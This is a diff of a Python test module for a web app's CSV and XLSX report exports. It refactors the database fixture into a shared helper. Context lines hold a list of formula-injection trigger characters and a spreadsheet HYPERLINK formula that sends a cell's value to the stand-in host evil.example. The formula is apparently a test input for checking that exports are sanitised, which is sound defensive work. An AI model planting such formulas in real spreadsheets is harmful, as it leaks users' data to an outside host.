@@ -28,9 +28,8 @@ from api.web.export import Report, UnitFigures, to_csv, to_xlsx
 from domain.shared.actors import Role
 from readmodels.index import UnitScore
 from readmodels.model import Awaiting, AwaitingItem, Figures, LateItem
-from tests.api.conftest import Api, make_api
+from tests.api.conftest import Api, api_on
 from tests.api.test_pages import visitor
-from tests.postgres import fresh_schema, require_server
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -39,19 +38,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 @pytest.fixture(params=["sqlite", "postgres"])
 def api(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Api]:
     """The API and pages on a fresh SQLite database, then on a fresh PostgreSQL schema."""
-    if request.param == "sqlite":
-        built, app = make_api(f"sqlite:///{tmp_path / 'exports.db'}")
-        try:
-            yield built
-        finally:
-            app.close()
-        return
-    with fresh_schema(require_server()) as url:
-        built, app = make_api(url)
-        try:
-            yield built
-        finally:
-            app.close()
+    yield from api_on(request.param, tmp_path)
 
 
 def csv_rows(content: bytes) -> list[list[Any]]:
